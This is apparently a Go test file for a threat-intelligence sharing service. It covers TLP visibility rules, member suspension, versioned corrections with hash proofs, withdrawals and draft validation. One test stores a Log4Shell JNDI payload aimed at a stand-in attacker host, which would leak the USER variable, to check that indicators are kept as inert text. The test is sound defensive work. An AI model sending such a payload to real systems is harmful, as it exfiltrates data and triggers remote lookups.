package sharing

import (
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"
	"time"

	"tocsin/access"
	"tocsin/internal/fault"
)

// The way of what is shared: to all, to a group, to one, to named people; the
// newest first, with why it concerns somebody; and what a suspension takes away,
// on every road.
func TestWhoReceivesWhat(t *testing.T) {
	w := newWorld(t)
	g, err := w.PutGroup(t.Context(), w.who("karin"), Group{Platform: "circle", Name: "Energy", Orgs: []string{"borel"}})
	w.must(err)
	clear, green := w.shares("karin", report("CLEAR", "clear")), w.shares("karin", report("GREEN", "green"))
	strict := w.shares("karin", report("AMBER+STRICT", "strict"))
	d := report("AMBER", "energy")
	d.Groups = []string{g.ID}
	energy := w.shares("karin", d)
	d = report("AMBER", "acme")
	d.To = []string{"acme"}
	acme := w.shares("karin", d)
	d = report("RED", "red")
	d.People = []string{"ada", "otto"}
	red := w.shares("karin", d)
	own := w.shares("cleo", report("AMBER", "own"))
	for it, want := range map[*Item]string{
		clear: "[karin anton ada ben cleo]", green: "[karin anton ada ben cleo]", strict: "[karin anton ada cleo]", energy: "[karin anton cleo]",
		acme: "[karin anton ada ben]", red: "[karin ada]", own: "[karin anton ada ben cleo]",
	} {
		if got := w.seers(it.ID); got != want {
			t.Errorf("%s is read by %s, want %s", it.Titles["en"], got, want)
		}
	}
	if got := w.titles("ada", Filter{}); got != "own, red, acme, strict, green, clear" {
		t.Errorf("ada's list: %s", got)
	}
	w.suspended("acme")
	if got := w.titles("ada", Filter{}) + "; " + w.titles("ben", Filter{}); got != "clear; clear" {
		t.Errorf("suspended, the lists are %s", got)
	}
	for _, it := range []*Item{green, strict, acme, red, own} {
		if w.sees("ada", it.ID) || w.sees("ben", it.ID) {
			t.Errorf("a suspended member reads %s", it.Titles["en"])
		}
	}
	// It still reports, to the authority alone; and reads what it reported.
	_, err = w.Share(t.Context(), w.who("ada"), "circle", report("GREEN", "to all"), "")
	w.wants(err, fault.Suspended, "the authority alone")
	still, err := w.Report(t.Context(), w.who("ada"), "circle", report("AMBER", "still"), "")
	w.must(err)
	if got := w.seers(still.ID); got != "[karin anton ada ben]" {
		t.Errorf("the report of a suspended member is read by %s", got)
	}
}

// What is shared is proved by the log, corrected by another version and withdrawn
// by a mark; nothing is edited.
func TestNothingIsEdited(t *testing.T) {
	w := newWorld(t)
	it := w.shares("karin", report("AMBER", "first words"))
	sum := sha256.Sum256(it.Sealed)
	if it.Proof.Hash != hex.EncodeToString(sum[:]) || !strings.Contains(string(it.Sealed), "first words") {
		t.Errorf("the hash is not that of what was shared")
	}
	notes, err := w.keeper.Notes(t.Context(), 0, 5)
	w.must(err)
	if n := notes[0]; n.Kind != "shared" || n.Body["hash"] != it.Proof.Hash || n.Index != it.Proof.Index || strings.Contains(strings.ToLower(toText(n.Body)), "words") {
		t.Errorf("the log says %+v", n)
	}
	_, err = w.Correct(t.Context(), w.who("cleo"), it.ID, report("AMBER", "cleo's"), 0, "")
	w.wants(err, fault.Forbidden, "whoever shared it")
	narrow := report("AMBER", "second words")
	narrow.To = []string{"borel"}
	two, err := w.Correct(t.Context(), w.who("otto"), it.ID, narrow, 1, "k")
	w.must(err)
	if again, err := w.Correct(t.Context(), w.who("otto"), it.ID, narrow, 1, "k"); err != nil || again.N != 2 {
		t.Errorf("the same word corrects again: %+v %v", again, err)
	}
	if two.N != 2 || two.At != it.At || len(two.Editions) != 2 || two.Proof.Hash == it.Proof.Hash {
		t.Errorf("%+v", two)
	}
	if w.sees("ada", it.ID) || !w.sees("cleo", it.ID) {
		t.Error("the correction is read by others than those it is for")
	}
	_, err = w.Correct(t.Context(), w.who("karin"), it.ID, narrow, 1, "")
	w.wants(err, fault.Conflict, "corrected meanwhile")
	old, err := w.GetVersion(t.Context(), w.who("cleo"), it.ID, 1)
	w.must(err)
	if old.Words["en"].Title != "first words" || string(old.Sealed) != string(it.Sealed) {
		t.Error("the first version is another")
	}
	// Widened later, the narrow version stays with those who could read it.
	if _, err := w.Correct(t.Context(), w.who("karin"), it.ID, report("CLEAR", "third words"), 2, ""); err != nil {
		t.Fatal(err)
	}
	if got, err := w.Get(t.Context(), w.who("ada"), it.ID); err != nil || got.N != 3 || len(got.Editions) != 2 || got.Editions[0].N != 3 || got.Editions[1].N != 1 {
		t.Errorf("%+v %v", got, err)
	}
	_, err = w.GetVersion(t.Context(), w.who("ada"), it.ID, 2)
	w.wants(err, fault.NotFound, missing().Error())
	w.wants(w.Withdraw(t.Context(), w.who("karin"), it.ID, " "), fault.Invalid, "reason")
	w.must(w.Withdraw(t.Context(), w.who("karin"), it.ID, "it was wrong"))
	w.must(w.Withdraw(t.Context(), w.who("karin"), it.ID, "it was wrong"))
	w.wants(w.Withdraw(t.Context(), w.who("karin"), it.ID, "again"), fault.Conflict, "already")
	if got, err := w.Get(t.Context(), w.who("cleo"), it.ID); err != nil || got.Withdrawn == nil || got.Withdrawn.Reason != "it was wrong" || got.Words["en"].Title != "third words" {
		t.Errorf("%+v %v", got, err)
	}
	_, err = w.Correct(t.Context(), w.who("karin"), it.ID, narrow, 0, "")
	w.wants(err, fault.Conflict, "withdrawn")
}

func toText(m map[string]any) (s string) {
	for k, v := range m {
		if k != "what" && k != "hash" {
			if x, ok := v.(string); ok {
				s += x + " "
			}
		}
	}
	return s
}

// The same word shares once, in whatever process.
func TestSharedOnce(t *testing.T) {
	w := newWorld(t)
	one, err := w.Share(t.Context(), w.who("karin"), "circle", report("GREEN", "one"), "k")
	w.must(err)
	two, err := w.another(w.o.Cabinet, nil).Share(t.Context(), w.who("karin"), "circle", report("GREEN", "one"), "k")
	w.must(err)
	other, err := w.Share(t.Context(), w.who("otto"), "circle", report("GREEN", "one"), "k")
	w.must(err)
	if one.ID != two.ID || one.ID == other.ID || w.titles("ada", Filter{}) != "one, one" {
		t.Error(one.ID, two.ID, other.ID)
	}
}

// Signs are text. A payload that would have a logger look up a name is kept to the
// byte, and nothing asks anybody about it.
func TestPayloadsAreText(t *testing.T) {
	w := newWorld(t)
	payload := "${jndi:ldap://${env:USER}.attacker.example:1389/a}"
	d := Draft{Kind: Indicator, TLP: "AMBER", Words: map[string]Words{"en": {Title: payload}}, About: About{Vulnerabilities: []string{"CVE-2021-44228"}, Keywords: []string{"Apache Log4j 2"}},
		Signs: []Sign{{Type: "payload", Value: payload}, {Type: "stix-pattern", Value: "[url:value = 'http://a.example/${jndi:dns://b.example}']"}, {Type: "domain", Value: "attacker.example"},
			{Type: "ipv4", Value: "192.0.2.0/24"}, {Type: "ipv6", Value: "2001:db8::1"}, {Type: "sha256", Value: strings.Repeat("0a", 32)}}}
	it := w.shares("karin", d)
	got, err := w.Get(t.Context(), w.who("ada"), it.ID)
	w.must(err)
	if got.Signs[0].Value != payload || got.Words["en"].Title != payload || len(got.Signs) != 6 {
		t.Errorf("%+v", got.Signs)
	}
	if len(got.Concerns) != 1 || got.Concerns[0].Wanted != "log4j" || got.Concerns[0].Matched != "Apache Log4j 2" {
		t.Errorf("why it concerns acme: %+v", got.Concerns)
	}
	if w.titles("cleo", Filter{Concerning: true}) != "" || w.titles("ada", Filter{Concerning: true, Kind: Indicator}) != payload {
		t.Error("the filter of what concerns somebody")
	}
	d = Draft{Kind: Sighting, TLP: "GREEN", Words: map[string]Words{"en": {Title: "seen"}}, Sightings: []Seen{{Type: "payload", Value: payload, Count: 412, First: monday.Add(-time.Hour), Last: monday}}}
	if it := w.shares("ada", d); it.Sightings[0].Count != 412 {
		t.Errorf("%+v", it.Sightings)
	}
}

// A draft that lacks what its kind or label needs is refused, with its key.
func TestWhatIsNotShared(t *testing.T) {
	w := newWorld(t)
	past := monday.Add(-time.Hour)
	for what, change := range map[string]func(*Draft){
		"kind": func(d *Draft) { d.Kind = "gossip" }, "tlp": func(d *Draft) { d.TLP = "" }, "label": func(d *Draft) { d.TLP = "WHITE" },
		"people": func(d *Draft) { d.TLP = "RED" }, "only RED": func(d *Draft) { d.People = []string{"ada"} }, "nobody here": func(d *Draft) { d.TLP, d.People = "RED", []string{"nobody"} },
		"words": func(d *Draft) { d.Words = nil }, "not en, zh, fr or de": func(d *Draft) { d.Words["it"] = Words{Title: "x", Text: "y"} },
		"words.en.text": func(d *Draft) { d.Words["en"] = Words{Title: "x"} }, "words.en.concerns": func(d *Draft) { d.Kind = RiskNotice },
		"cannot be seen": func(d *Draft) { d.Words["en"] = Words{Title: "x\u202ey", Text: "z"} }, "one line": func(d *Draft) { d.Words["en"] = Words{Title: "x\ny", Text: "z"} },
		"signs": func(d *Draft) { d.Kind = Indicator }, "sightings": func(d *Draft) { d.Kind = Sighting }, "no type": func(d *Draft) { d.Signs = []Sign{{Type: "rumour", Value: "x"}} },
		"hex digits": func(d *Draft) { d.Signs = []Sign{{Type: "sha1", Value: "xyz"}} }, "ipv4": func(d *Draft) { d.Signs = []Sign{{Type: "ipv4", Value: "2001:db8::1"}} },
		"lies in the past": func(d *Draft) { d.AckBy = &past }, "package URL": func(d *Draft) { d.About.Purls = []string{"log4j"} }, "no member": func(d *Draft) { d.To = []string{"dirac"} },
		"no group": func(d *Draft) { d.Groups = []string{"none"} }, "more than": func(d *Draft) { d.Words["en"] = Words{Title: strings.Repeat("x", 301), Text: "y"} },
	} {
		d := report("GREEN", "x")
		change(&d)
		_, err := w.Share(t.Context(), w.who("karin"), "circle", d, "")
		w.wants(err, fault.Invalid, what)
	}
	named := report("GREEN", "x")
	named.To = []string{"borel"}
	_, err := w.Share(t.Context(), w.who("ada"), "circle", named, "")
	w.wants(err, fault.Invalid, "groups that it is in")
	future := monday.Add(time.Hour)
	asking := report("GREEN", "x")
	asking.AckBy = &future
	_, err = w.Share(t.Context(), w.who("ada"), "circle", asking, "")
	w.wants(err, fault.Invalid, "only the authority")
	_, err = w.Share(t.Context(), w.who("anton"), "circle", report("GREEN", "x"), "")
	w.wants(err, fault.Forbidden, "act for")
	token := w.who("karin")
	token.Scopes = []string{string(access.See)}
	_, err = w.Share(t.Context(), token, "circle", report("GREEN", "x"), "")
	w.wants(err, fault.Forbidden, "scope add")
	for _, platform := range []string{"circle", "nowhere"} {
		_, err = w.Share(t.Context(), w.who("dora"), platform, report("GREEN", "x"), "")
		w.wants(err, fault.NotFound, "no such platform")
	}
}
